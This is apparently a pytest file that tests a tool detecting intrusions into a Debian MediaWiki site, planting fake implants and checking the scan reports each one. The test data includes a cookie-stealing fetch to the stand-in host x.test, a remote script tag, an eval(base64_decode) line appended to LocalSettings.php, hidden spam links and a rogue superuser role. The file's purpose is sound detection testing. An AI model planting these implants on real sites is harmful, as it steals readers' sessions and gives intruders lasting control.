"""MediaWiki as Debian ships it, on both databases: nothing to accept on a stock site, what an intruder adds is found.

Everything is planted with MediaWiki's own programs, so that it stands in the database as the application writes it.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from mediawiki_host import HOST, edit, install, maintain, run

from ungcuu.lab import Lab

Ungcuu = Callable[..., tuple[int, dict[str, Any], str]]
# One database a day in the ordinary run, the other one in the night: an installation, a baseline and four scans each.
ENGINES = ["postgresql", "mariadb"]
TODAY = ENGINES[date.today().toordinal() % 2]
SETTINGS = "/etc/mediawiki/LocalSettings.php"
HIDDEN = '<div style="display:none">[https://x.test nhà cái] [https://y.test casino]</div>'
EXPECTED = {
    ("administrator Khach sysop", "database.administrator", "critical"),
    ("administrator Khach interface-admin", "database.administrator", "critical"),
    ("token Quantri tool", "database.application-password", "high"),
    ("script page 8:Common.js", "content.script", "high"),
    ("script page 0:Tin_tuc", "content.script", "high"),
    ("content page 0:Gioi_thieu", "content.hidden-link", "high"),
    (SETTINGS, "config.changed", "high"),
}

# MariaDB's own server is tried in test_implants.py.
SERVER = """CREATE ROLE khach SUPERUSER LOGIN;
CREATE FUNCTION mediawiki.thong_ke() RETURNS int LANGUAGE sql AS 'SELECT 1';"""
EXPECTED_OF_SERVER = {
    ("user postgresql role khach", "database.user", "high"),
    ("routine postgresql function mediawiki.thong_ke()", "database.code", "high"),
}


@pytest.fixture(
    scope="module",
    params=[pytest.param(name, marks=[] if name == TODAY else [pytest.mark.nightly]) for name in ENGINES],
)
def wiki(
    request: pytest.FixtureRequest,
    fresh: Callable[..., Lab],
    ungcuu_on: Callable[[Path], Ungcuu],
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[Lab, Ungcuu, str]:
    """The wiki with its signed baseline, and `ungcuu` on its inventory."""
    lab = fresh(HOST, "vault01")
    site = install(lab, request.param, tmp_path_factory.mktemp("wiki"))
    ungcuu = ungcuu_on(site)
    edit(lab, "Tin tuc", "Một trang bình thường với [https://example.test liên kết].")
    code, document, said = ungcuu("baseline", HOST, "--reason", "test")
    assert (code, document["baseline_changed"]) == (0, True), said
    return lab, ungcuu, request.param


def test_a_stock_site_has_nothing_to_accept(wiki: tuple[Lab, Ungcuu, str]) -> None:
    """What a person has to accept on the first day is accepted on every other day too; what is not read is said."""
    lab, ungcuu, _engine = wiki
    edit(lab, "Thong bao", "Trang mới của biên tập viên.")
    code, document, said = ungcuu("scan", HOST)
    assert (code, document["findings"]) == (0, []), said
    assert document["scans"][0]["checked"]["application"]["unread"] == {}
    assert "not looked at" not in said
    kept = json.loads(Path(os.environ["UNGCUU_STATE"], f"hosts/{HOST}/baseline.json").read_text("utf-8"))
    assert {row["name"] for row in kept["rows"]["database"] if row["set"] == "administrator"} == {
        "Quantri sysop",
        "Quantri bureaucrat",
        "Quantri interface-admin",
    }


def test_what_an_intruder_adds_is_found(wiki: tuple[Lab, Ungcuu, str]) -> None:
    """An administrator, a bot password, code for every reader's browser, and links that only search engines see."""
    lab, ungcuu, engine = wiki
    maintain(lab, "createAndPromote.php --sysop --custom-groups interface-admin Khach 'another-Long-word-7'")
    maintain(lab, "createBotPassword.php --appid tool --grants basic Quantri 'abcdefghijklmnopqrstuvwxyz012345'")
    edit(lab, "MediaWiki:Common.js", "fetch('//x.test/' + document.cookie);")
    edit(lab, "Tin tuc", "Một trang. <script src=//x.test/a.js></script>")
    edit(lab, "Gioi thieu", HIDDEN)
    run(lab, f"echo \"eval(base64_decode('ZWNobyAxOw=='));\" >> {SETTINGS}")
    if engine == "postgresql":
        run(lab, "cd /; runuser -u postgres -- psql -qX -d wiki", SERVER)
    code, document, said = ungcuu("scan", HOST)
    assert code == 13, said
    expected = EXPECTED | (EXPECTED_OF_SERVER if engine == "postgresql" else set())
    assert {(row["path"], row["rule"], row["severity"]) for row in document["findings"]} == expected


def test_a_table_that_is_gone_is_no_silence(wiki: tuple[Lab, Ungcuu, str]) -> None:
    """An intruder who renames a table must not make the scan blind."""
    lab, ungcuu, engine = wiki
    ask = "mariadb wiki" if engine == "mariadb" else "cd /; PGPASSWORD=word psql -qX -h localhost -U wiki wiki"
    schema = "" if engine == "mariadb" else "SET search_path TO mediawiki; "
    run(lab, ask, f"{schema}ALTER TABLE bot_passwords RENAME TO bot_passwords_x;")
    code, document, said = ungcuu("scan", HOST)
    assert code == 13, said
    assert ("tokens", "application.unread") in {(row["path"], row["rule"]) for row in document["findings"]}
